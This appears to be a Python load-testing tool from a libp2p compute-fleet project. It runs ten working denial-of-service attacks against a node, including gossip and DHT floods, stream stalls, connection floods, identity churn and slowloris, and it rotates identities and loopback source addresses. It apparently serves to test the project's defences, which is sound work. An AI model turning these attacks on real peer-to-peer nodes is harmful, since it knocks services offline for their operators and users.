"""The attack set of the hostile-load issue, as cheap attackers run them: each attack is a
coroutine that attacks one node until cancelled, rotating identities and source addresses
whenever the node cuts it off. Run as its own process (so its CPU and bytes are not the
victim's or the observer's):

    python tools/hostile_peers.py ATTACK ADDR NETWORK SECONDS

ADDR is the victim's /ip4/.../tcp/.../p2p/... address. Prints one JSON line of what the
attack did (bytes sent, identities and source addresses used, streams, connections).
Source addresses come from 127.0.50.0-127.0.99.255: loopback, distinct per-IP sources.
"""

from __future__ import annotations

import itertools
import json
import os
import sys
import time
from collections.abc import Awaitable, Callable
from contextlib import asynccontextmanager
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import multiaddr
import trio

ROOT = Path(__file__).resolve().parents[1]
if str(ROOT) not in sys.path:
    sys.path.insert(0, str(ROOT))

from libp2p import new_host  # noqa: E402
from libp2p.crypto.ed25519 import create_new_key_pair  # noqa: E402
from libp2p.custom_types import TProtocol  # noqa: E402
from libp2p.kad_dht.pb.kademlia_pb2 import Message  # noqa: E402
from libp2p.peer.id import ID  # noqa: E402
from libp2p.peer.peerinfo import PeerInfo, info_from_p2p_addr  # noqa: E402
from libp2p.pubsub.pb import rpc_pb2  # noqa: E402
from libp2p.utils.varint import encode_uvarint  # noqa: E402

from p2pfleet.identity import Identity  # noqa: E402
from p2pfleet.names import Names  # noqa: E402
from p2pfleet.net.mesh import _close_swarm  # noqa: E402
from p2pfleet.wire.envelope import seal  # noqa: E402
from p2pfleet.wire.kinds import Capacity, JobAnnouncement, Requirements  # noqa: E402

GOSSIP = TProtocol("/meshsub/1.1.0")
SOURCES = [f"127.0.{a}.{b}" for a in range(50, 100) for b in range(1, 255)]


def now_ms() -> int:
    return int(time.time() * 1000)


def frame(body: bytes) -> bytes:
    return encode_uvarint(len(body)) + body


def announcement(publisher: Identity, network: str, seq: int = 1) -> bytes:
    """A valid, signed job announcement (what an honest publisher gossips)."""
    body = JobAnnouncement(
        seq=seq, exp=now_ms() + 600_000, job_id=os.urandom(16), model_digest=b"m" * 32,
        model_size=1234, requirements=Requirements(min_memory_mb=256, providers=(),
                                                   min_sw_version="0.1.0", ort_versions=">=1.19"),
        credit_rate=1, quorum=2, shards_total=10, shards_left=10, addrs=())
    return seal(body, publisher, network)


def capacity_record(signer: Identity, network: str) -> bytes:
    """A valid, signed capacity record (what an honest node stores in the DHT)."""
    body = Capacity(seq=now_ms(), exp=now_ms() + 600_000, sw_version="0.1.0", state="available",
                    hw_class=b"\x07" * 32, cores=2, memory_mb=1024, bench=50.0,
                    providers=("CPUExecutionProvider",), ort_version="1.32.0", slots=1, addrs=())
    return seal(body, signer, network)


@dataclass
class Target:
    info: PeerInfo
    names: Names
    network: str

    @property
    def kad(self) -> TProtocol:
        return TProtocol(self.names.protocol("kad"))


@dataclass
class Tally:
    """What an attack did, printed as JSON at the end."""
    bytes_sent: int = 0
    identities: int = 0
    sources: set[str] = field(default_factory=set)
    streams: int = 0
    connections: int = 0
    refused: int = 0  # dials or streams the victim refused

    def report(self) -> dict:
        return {"bytes_sent": self.bytes_sent, "identities": self.identities,
                "sources": len(self.sources), "streams": self.streams,
                "connections": self.connections, "refused": self.refused}


class Attacker:
    def __init__(self, target: Target) -> None:
        self.target = target
        self.tally = Tally()
        self._sources = itertools.cycle(SOURCES)

    def next_source(self) -> str:
        source = next(self._sources)
        self.tally.sources.add(source)
        return source

    @asynccontextmanager
    async def identity(self, source: str | None = None):
        """A fresh raw py-libp2p host (no DHT, no gossip, none of our checks) connected to
        the victim from a fresh source address; None if the victim refused the dial."""
        host = new_host(key_pair=create_new_key_pair(os.urandom(32)))
        self.tally.identities += 1
        async with host.run([]):
            try:
                try:
                    with trio.fail_after(10):
                        await host.get_network().dial_addr(
                            self.target.info.addrs[0], self.target.info.peer_id,
                            source=(source or self.next_source(), 0))
                    self.tally.connections += 1
                    yield host
                except Exception:  # noqa: BLE001 - refused or cut off: the defence at work
                    self.tally.refused += 1
                    yield None
            finally:
                await _close_swarm(host)

    async def stream(self, host: Any, protocol: TProtocol) -> Any | None:
        try:
            with trio.fail_after(10):
                s = await host.new_stream(self.target.info.peer_id, [protocol])
            self.tally.streams += 1
            return s
        except Exception:  # noqa: BLE001
            self.tally.refused += 1
            return None

    async def write(self, stream: Any, data: bytes) -> bool:
        try:
            with trio.fail_after(10):
                await stream.write(data)
            self.tally.bytes_sent += len(data)
            return True
        except Exception:  # noqa: BLE001 - reset or closed by the victim
            return False

    # --- the attacks --------------------------------------------------------------------
    async def junk_gossip(self) -> None:
        """Well-framed junk GossipSub RPCs (60 kB each) as fast as the victim reads them."""
        rpc = rpc_pb2.RPC(publish=[rpc_pb2.Message(topicIDs=["not-a-fleet-topic"],
                                                   data=os.urandom(60_000))])
        data = frame(rpc.SerializeToString())
        await self._per_identity(lambda host: self._stream_loop(host, GOSSIP, lambda: data))

    async def malformed_gossip(self) -> None:
        """Frames that do not decode as GossipSub RPCs."""
        await self._per_identity(lambda host: self._stream_loop(
            host, GOSSIP, lambda: b"\x10" + os.urandom(16), new_stream_each=True))

    async def topic_spam(self) -> None:
        """Signed gossip messages naming our jobs topic and 5,000 others."""
        topics = [self.target.names.topic("jobs")] + [f"/junk/{i:05d}" for i in range(5000)]
        publisher = Identity.from_seed(os.urandom(16))
        seqno = itertools.count(1)

        def message(host: Any) -> bytes:
            key = host.get_private_key()
            msg = rpc_pb2.Message(from_id=host.get_id().to_bytes(),
                                  data=announcement(publisher, self.target.network, next(seqno)),
                                  seqno=next(seqno).to_bytes(8, "big"), topicIDs=topics)
            msg.signature = key.sign(b"libp2p-pubsub:" + msg.SerializeToString())
            msg.key = host.get_public_key().serialize()
            return frame(rpc_pb2.RPC(publish=[msg]).SerializeToString())

        await self._per_identity(lambda host: self._stream_loop(
            host, GOSSIP, lambda: message(host)))

    async def record_flood(self) -> None:
        """Valid capacity records, each signed by its own identity, pushed by one peer."""
        def put() -> bytes:
            signer = Identity.from_seed(os.urandom(16))
            key = self.target.names.node_key(signer.peer_id).encode()
            msg = Message(type=Message.MessageType.PUT_VALUE, key=key)
            msg.record.key = key
            msg.record.value = capacity_record(signer, self.target.network)
            return frame(msg.SerializeToString())
        await self._per_identity(lambda host: self._stream_loop(
            host, self.target.kad, put, new_stream_each=True))

    async def dht_stall(self) -> None:
        """DHT streams that start a frame and never finish it, from a fresh identity every
        10 s (each identity opens as many as the victim lets it)."""
        async def stall(host: Any) -> None:
            held = []
            with trio.move_on_after(10):
                while True:
                    s = await self.stream(host, self.target.kad)
                    if s is None or not await self.write(s, b"\x80\x08"):
                        break
                    held.append(s)
                await trio.sleep_forever()
        await self._per_identity(stall)

    async def find_node_flood(self) -> None:
        """32 concurrent FIND_NODE requests, each answered one is asked again at once."""
        async def flood(host: Any) -> None:
            async def one() -> None:
                while True:
                    s = await self.stream(host, self.target.kad)
                    if s is None:
                        return
                    key = create_new_key_pair(os.urandom(32)).public_key
                    msg = Message(type=Message.MessageType.FIND_NODE,
                                  key=ID.from_pubkey(key).to_bytes())
                    if not await self.write(s, frame(msg.SerializeToString())):
                        return
                    try:
                        with trio.fail_after(10):
                            await s.read(65536)
                    except Exception:  # noqa: BLE001
                        return
            async with trio.open_nursery() as n:
                for _ in range(32):
                    n.start_soon(one)
        await self._per_identity(flood)

    async def inbound_flood(self) -> None:
        """120 connections from 40 source addresses (3 identities each), held open."""
        async def hold(source: str) -> None:
            async with self.identity(source) as host:
                if host is not None:
                    await trio.sleep_forever()
        async with trio.open_nursery() as n:
            for i in range(120):
                n.start_soon(hold, SOURCES[i % 40])
                self.tally.sources.add(SOURCES[i % 40])
                await trio.sleep(0.02)

    async def churn(self) -> None:
        """Fresh identities from fresh addresses connecting, exchanging identify and
        leaving, one after another (each costs the node a handshake and identify)."""
        while True:
            async with self.identity() as host:
                if host is not None:
                    await trio.sleep(0.5)  # identify and the first gossip hello go both ways

    async def half_open(self) -> None:
        """300 TCP connections from 40 addresses that never start the handshake."""
        await self._raw_sockets(300, None)

    async def slowloris(self) -> None:
        """100 TCP connections from 20 addresses trickling the handshake, a byte every 2 s."""
        await self._raw_sockets(100, b"/multistream/1.0.0\n")

    # --- helpers -------------------------------------------------------------------------
    async def _per_identity(self, attack: Callable[[Any], Awaitable[None]]) -> None:
        """Run `attack` with a fresh identity and source; when the victim cuts it off (or
        it ends), the next identity takes over: the cheap attacker's rotation."""
        while True:
            async with self.identity() as host:
                if host is not None:
                    await attack(host)
            await trio.sleep(0.05)

    async def _stream_loop(self, host: Any, protocol: TProtocol, data: Callable[[], bytes],
                           new_stream_each: bool = False) -> None:
        stream = None
        while True:
            if stream is None:
                stream = await self.stream(host, protocol)
                if stream is None:
                    return
            if not await self.write(stream, data()):
                return
            if new_stream_each:
                try:
                    await stream.close()
                except Exception:  # noqa: BLE001
                    pass
                stream = None

    async def _raw_sockets(self, n: int, trickle: bytes | None) -> None:
        addr = self.target.info.addrs[0]
        ip, port = addr.value_for_protocol("ip4"), int(addr.value_for_protocol("tcp"))
        sources = 40 if trickle is None else 20

        async def one(i: int) -> None:
            sock = trio.socket.socket()
            try:
                await sock.bind((SOURCES[i % sources], 0))
                self.tally.sources.add(SOURCES[i % sources])
                await sock.connect((ip, port))
                self.tally.connections += 1
                if trickle is None:
                    await trio.sleep_forever()
                for b in itertools.cycle(trickle):
                    await sock.send(bytes([b]))
                    self.tally.bytes_sent += 1
                    await trio.sleep(2.0)
            except OSError:
                self.tally.refused += 1
            finally:
                sock.close()

        async with trio.open_nursery() as nursery:
            for i in range(n):
                nursery.start_soon(one, i)


ATTACKS = ("junk_gossip", "malformed_gossip", "topic_spam", "record_flood", "dht_stall",
           "find_node_flood", "inbound_flood", "churn", "half_open", "slowloris")


async def main(attack: str, addr: str, network: str, seconds: float) -> None:
    if attack not in ATTACKS:
        raise SystemExit(f"unknown attack {attack!r}; known: {', '.join(ATTACKS)}")
    target = Target(info_from_p2p_addr(multiaddr.Multiaddr(addr)), Names(network), network)
    attacker = Attacker(target)
    with trio.move_on_after(seconds):
        await getattr(attacker, attack)()
    print(json.dumps({"attack": attack, **attacker.tally.report()}), flush=True)


if __name__ == "__main__":
    if len(sys.argv) != 5:
        raise SystemExit(__doc__)
    trio.run(main, sys.argv[1], sys.argv[2], sys.argv[3], float(sys.argv[4]))
